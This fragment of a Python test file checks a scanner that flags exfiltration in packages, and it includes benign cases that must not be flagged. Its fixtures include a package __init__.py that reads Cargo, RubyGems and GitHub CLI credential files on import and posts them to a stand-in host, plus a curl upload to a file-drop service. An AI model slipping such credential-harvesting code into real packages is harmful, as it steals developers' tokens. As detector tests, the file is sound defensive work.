    assert "PV-EXF-DNS" not in ids(run(ALL, alive))


def test_registry_and_cli_tokens_read_and_sent_as_the_package_loads() -> None:
    """Cargo, RubyGems, Terraform and GitHub CLI tokens gathered into a dict in a loop and posted
    at import: the flow through the loop is not followed, but both happen unasked."""
    bad = py(
        "import os, requests\nhome = os.path.expanduser('~')\nout = {}\n"
        "for rel in ('.cargo/credentials.toml', '.gem/credentials', '.config/gh/hosts.yml'):\n"
        "    p = os.path.join(home, rel)\n    if os.path.exists(p):\n        out[rel] = open(p).read()\n"
        "requests.post('https://h.example/r', json=out)\n",
        path="acme/__init__.py",
    )
    combo = [f for f in run(ALL, bad) if f.rule == "PV-EXF-COMBO"]
    assert [f.severity for f in combo] == [Severity.HIGH]
    # a diagnostics command that reports which tools are logged in, and checks for updates
    doctor = py(
        "import os, requests\ndef doctor():\n"
        "    for p in ('~/.cargo/credentials.toml', '~/.config/gh/hosts.yml'):\n"
        "        print(p, os.path.exists(os.path.expanduser(p)))\n"
        "def latest():\n    return requests.get('https://h.example/version').text\n",
        path="acme/doctor.py",
    )
    assert "PV-EXF-COMBO" not in ids(run(ALL, doctor))


def test_a_file_name_like_a_file_drop_host_is_no_address() -> None:
    script = py("with open('temp.sh', 'w') as fh:\n    fh.write('echo hi')\n", path="acme/jobs.py")
    assert "PV-EXF-CHANNEL" not in ids(run(ALL, script))
    upload = py("import subprocess\nsubprocess.run(['curl', '--upload-file', 'x', 'https://temp.sh/x'])\n")
    assert "PV-EXF-CHANNEL" in ids(run(ALL, upload))
